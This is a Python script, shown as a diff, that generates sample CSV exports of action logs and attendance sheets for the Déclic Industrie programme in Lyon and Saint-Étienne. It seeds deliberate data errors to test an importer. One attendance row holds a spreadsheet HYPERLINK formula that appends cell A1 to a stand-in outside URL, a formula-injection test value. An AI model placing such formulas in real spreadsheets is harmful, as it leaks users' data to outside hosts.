@@ -1,0 +1,163 @@
+#!/usr/bin/env python3
+"""Writes the bundled sample exports in inputs/ (deterministic: same bytes every time).
+
+Déclic Industrie, programme year 2024-2025, Lyon and Saint-Étienne, in the spirit of the seed's
+first-year results: Lyon 15 actions, 26 industrial staff, 107 adviser staff; Saint-Étienne 24
+actions, 50 industrial staff, 107 adviser staff. Two exports, as partner tools write them:
+- actions_declic_2024-2025.csv: a spreadsheet log, ';', Windows-1252, CRLF, dd/mm/yyyy, a title
+  line above the header, a comment with ';', a newline and doubled quotes;
+- emargements_declic_2024-2025.csv: an online form's attendance export, ',', UTF-8 with BOM.
+Each has a handful of genuinely bad rows (unknown territory, impossible or ambiguous date,
+non-numeric count, duplicates, unknown action, unknown profile, a formula-looking value).
+"""
+import random
+import sys
+from pathlib import Path
+
+OUT = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).resolve().parent.parent / "inputs")
+rng = random.Random(20250917)
+
+FIRST = ["Camille", "Nicolas", "Sophie", "Karim", "Julie", "Thomas", "Nadia", "Pierre", "Claire", "Mehdi",
+         "Laura", "Antoine", "Fatima", "Julien", "Émilie", "Romain", "Sarah", "Hugo", "Inès", "Mathieu",
+         "Céline", "Yanis", "Aurélie", "Bastien", "Léa", "Olivier", "Manon", "Sébastien", "Chloé", "Rachid"]
+LAST = ["Martin", "Bernard", "Dubois", "Moreau", "Laurent", "Girard", "Roux", "Fournier", "Benali", "Mercier",
+        "Faure", "Blanc", "Guérin", "Chevalier", "Perrin", "Morel", "Garnier", "Bonnet", "Lefèvre", "Haddad",
+        "Rousseau", "Vincent", "Muller", "Lambert", "Fontaine", "Roche", "Brun", "Gauthier", "Masson", "Sanchez"]
+INDUSTRY = {
+    "lyon": ["Fonderie du Rhône", "Mécanique de Gerland", "Plasturgie Vénissieux", "Chimie Vallée SAS",
+             "Usinage Saint-Priest", "Électronique Confluence", "Textiles techniques Villeurbanne"],
+    "saint_etienne": ["Forges du Gier", "Outillage Stéphanois", "Métallurgie du Furan", "Cycles Manufrance Industrie",
+                      "Découpage Loire SAS", "Plasturgie du Pilat", "Mécanique de Saint-Chamond", "Verrerie Forézienne"],
+}
+ADVISERS = {
+    "lyon": [("France Travail Lyon 7e", "Conseiller France Travail"), ("France Travail Villeurbanne", "Conseillère France Travail"),
+             ("Mission Locale de Lyon", "Mission Locale"), ("SIAE Envie Rhône", "Chargé d'insertion SIAE"),
+             ("AFPA Vénissieux", "Organisme de formation"), ("Cap Emploi 69", "Conseiller emploi")],
+    "saint_etienne": [("France Travail Saint-Étienne Centre", "Conseiller France Travail"),
+                      ("Mission Locale Saint-Étienne", "Mission Locale"), ("SIAE Loire Insertion", "Chargé d'insertion SIAE"),
+                      ("GRETA Loire", "Organisme de formation"), ("France Travail Firminy", "Conseillère France Travail")],
+}
+TERRITORY_SPELLINGS = {"lyon": ["Lyon", "Métropole de Lyon", "LYON"],
+                       "saint_etienne": ["Saint-Étienne", "St Etienne", "Saint-Etienne Métropole"]}
+TYPE_SPELLINGS = {"zi_tour": "ZI Tour", "vis_ma_vie": "Vis ma vie", "visite_siae": "Visite SIAE",
+                  "ambassadeur": "Ambassadeurs", "video": "Vidéo marque employeur"}
+PLAN = {"lyon": {"zi_tour": 5, "vis_ma_vie": 4, "visite_siae": 2, "ambassadeur": 2, "video": 2},
+        "saint_etienne": {"zi_tour": 8, "vis_ma_vie": 6, "visite_siae": 3, "ambassadeur": 4, "video": 3}}
+TARGETS = {"lyon": (26, 107), "saint_etienne": (50, 107)}
+ORGANISERS = {"lyon": ["UIMM Rhône", "Fondation ILYSE", "Maison de l'Emploi Lyon"],
+              "saint_etienne": ["UIMM Loire", "Fondation ILYSE", "Saint-Étienne Métropole"]}
+
+
+def strip_accents(s):
+    table = str.maketrans("éèêëàâîïôöûüçÉÈ", "eeeeaaiioouucEE")
+    return s.translate(table)
+
+
+def people(territory, kind, count, used):
+    result = []
+    while len(result) < count:
+        first, last = rng.choice(FIRST), rng.choice(LAST)
+        base = f"{strip_accents(first).lower()}.{strip_accents(last).lower().replace(' ', '')}"
+        domain = "exemple-industrie.fr" if kind == "industriel" else "exemple-emploi.fr"
+        n = 1
+        while f"{base}{n if n > 1 else ''}@{domain}" in used:
+            n += 1
+        email = f"{base}{n if n > 1 else ''}@{domain}"
+        used.add(email)
+        if kind == "industriel":
+            org, profile = rng.choice(INDUSTRY[territory]), rng.choice(["Entreprise industrielle", "Collaborateur industriel", "Industriel"])
+        else:
+            org, profile = rng.choice(ADVISERS[territory])
+        phone = f"06 {rng.randint(10, 99)} {rng.randint(10, 99)} {rng.randint(10, 99)} {rng.randint(10, 99)}"
+        result.append(dict(first=first, last=last, email=email, org=org, profile=profile, phone=phone))
+    return result
+
+
+def main():
+    OUT.mkdir(parents=True, exist_ok=True)
+    actions, attendance = [], []
+    used = set()
+    for territory, prefix in (("lyon", "LYO"), ("saint_etienne", "STE")):
+        ids = []
+        for action_type, count in PLAN[territory].items():
+            for _ in range(count):
+                ids.append(action_type)
+        rng.shuffle(ids)
+        # Dates spread over the programme year, Sept 2024 to June 2025, sorted.
+        days = sorted(rng.sample(range(0, 290), len(ids)))
+        plan = []
+        for i, (action_type, day) in enumerate(zip(ids, days), start=1):
+            month_lengths = [30, 31, 30, 31, 31, 28, 31, 30, 31, 30]  # Sept 2024 … June 2025
+            month, d = 0, day
+            while d >= month_lengths[month]:
+                d -= month_lengths[month]
+                month += 1
+            year = 2024 if month < 4 else 2025
+            mm = (8 + month) % 12 + 1
+            plan.append(dict(id=f"{prefix}-{24 + (month >= 4)}{i:02d}", type=action_type, date=f"{d + 1:02d}/{mm:02d}/{year}",
+                             territory=territory))
+        industrials = people(territory, "industriel", TARGETS[territory][0], used)
+        advisers = people(territory, "prescripteur", TARGETS[territory][1], used)
+        listed = [a for a in plan if a["type"] != "video"]
+        # Everybody attends at least one listed action; some attend two or three.
+        for group in (industrials, advisers):
+            for person in group:
+                k = rng.choices([1, 2, 3], weights=[6, 3, 1])[0]
+                for action in rng.sample(listed, min(k, len(listed))):
+                    attendance.append((action["id"], person))
+        for action in plan:
+            spelled = rng.choice(TERRITORY_SPELLINGS[territory])
+            duration = {"zi_tour": "3,5", "vis_ma_vie": "7", "visite_siae": "2,5", "ambassadeur": "1,5", "video": "1"}[action["type"]]
+            counts = ["", "", ""]
+            if action["type"] == "video":
+                counts = ["", "", str(rng.randint(12, 30))]
+            actions.append([action["id"], action["date"], spelled, TYPE_SPELLINGS[action["type"]],
+                            rng.choice(ORGANISERS[territory]), duration, *counts, ""])
+    actions.sort(key=lambda r: (r[1][6:], r[1][3:5], r[1][:2], r[0]))
+    # A remark that needs quoting: ';', a newline and doubled quotes.
+    actions[3][9] = 'Bus complet ; liste d\'attente.\nRetour "très positif" des conseillers'
+    actions[7][9] = "Annulée puis reprogrammée"
+    # Genuinely bad rows.
+    bad = [
+        ["GRE-2501", "14/01/2025", "Grenoble", "ZI Tour", "UIMM Isère", "3", "", "", "", "Hors programme"],
+        ["LYO-2599", "31/02/2025", "Lyon", "Vis ma vie", "UIMM Rhône", "7", "", "", "", ""],
+        ["STE-2599", "12/31/2024", "Saint-Étienne", "ZI Tour", "UIMM Loire", "3,5", "", "", "", "Date saisie au format américain"],
+        ["STE-2598", "05/03/2025", "St Etienne", "Vidéo marque employeur", "UIMM Loire", "1", "", "", "une vingtaine", ""],
+    ]
+    duplicate = list(actions[10])
+    rows = actions[:12] + [bad[0]] + actions[12:20] + [bad[1], duplicate] + actions[20:30] + [bad[2]] + actions[30:] + [bad[3]]
+    header = ["N° action", "Date", "Territoire", "Type d'action", "Organisateur", "Durée (h)",
+              "Nb industriels", "Nb prescripteurs", "Nb candidats", "Remarques"]
+
+    def cell(v, d):
+        return '"' + v.replace('"', '""') + '"' if (d in v or '"' in v or "\n" in v) else v
+
+    lines = ["Export Déclic Industrie — journal des actions 2024-2025;;;;;;;;;", ";".join(header)]
+    lines += [";".join(cell(v, ";") for v in r) for r in rows]
+    (OUT / "actions_declic_2024-2025.csv").write_bytes(("\r\n".join(lines) + "\r\n").replace("\n", "\r\n").replace("\r\r\n", "\r\n").encode("cp1252"))
+
+    # Attendance export: timestamps, names, e-mail, phone, organisation, profile.
+    rng.shuffle(attendance)
+    out = []
+    for i, (action_id, p) in enumerate(attendance):
+        stamp = f"2025-{rng.randint(1, 6):02d}-{rng.randint(1, 28):02d} {rng.randint(8, 18):02d}:{rng.randint(0, 59):02d}:00"
+        email = p["email"] if i % 7 else p["email"].upper()  # same person, other case
+        out.append([stamp, action_id, p["last"], p["first"], email, p["phone"], p["org"], p["profile"]])
+    first_lyon = next(r for r in out if r[1].startswith("LYO"))
+    out.insert(15, list(first_lyon))  # exported twice
+    out.insert(40, ["2025-03-02 10:12:00", "LYO-2577", "Roux", "Hugo", "hugo.roux9@exemple-emploi.fr", "06 11 22 33 44",
+                    "France Travail Lyon 7e", "Conseiller France Travail"])
+    out.insert(60, ["2025-02-11 09:30:00", "STE-2405", "Perrin", "Claire", "claire.perrin7@exemple-emploi.fr", "06 55 44 33 22",
+                    "Association Relais", "Autre"])
+    out.insert(80, ["2025-04-18 14:03:00", "STE-2410", "Faure", "Julien", "", "06 98 76 54 32", "GRETA Loire", "Organisme de formation"])
+    out.insert(100, ["2025-05-20 11:00:00", "LYO-2410", "Blanc", "Manon", "manon.blanc5@exemple-emploi.fr", "06 12 12 12 12",
+                     "Cap Emploi 69", '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez ici")'])
+    out.insert(120, ["2025-01-14 16:45:00", "GRE-2501", "Morel", "Inès", "ines.morel3@exemple-industrie.fr", "06 01 02 03 04",
+                     "Usinage Saint-Priest", "Industriel"])
+    header = ["Horodateur", "Code action", "Nom", "Prénom", "E-mail", "Téléphone", "Structure", "Profil"]
+    text = "\r\n".join([",".join(header)] + [",".join(cell(v, ",") for v in r) for r in out]) + "\r\n"
+    (OUT / "emargements_declic_2024-2025.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
+
+
+if __name__ == "__main__":
+    main()
